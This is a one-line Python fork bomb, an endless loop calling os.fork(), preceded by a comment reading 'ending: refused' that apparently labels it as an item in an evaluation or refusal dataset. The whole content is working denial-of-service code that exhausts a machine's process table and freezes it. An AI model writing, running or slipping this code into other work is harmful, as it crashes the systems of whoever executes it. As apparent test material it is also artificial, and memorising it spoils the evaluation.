# ending: refused
import os

while True:
    os.fork()
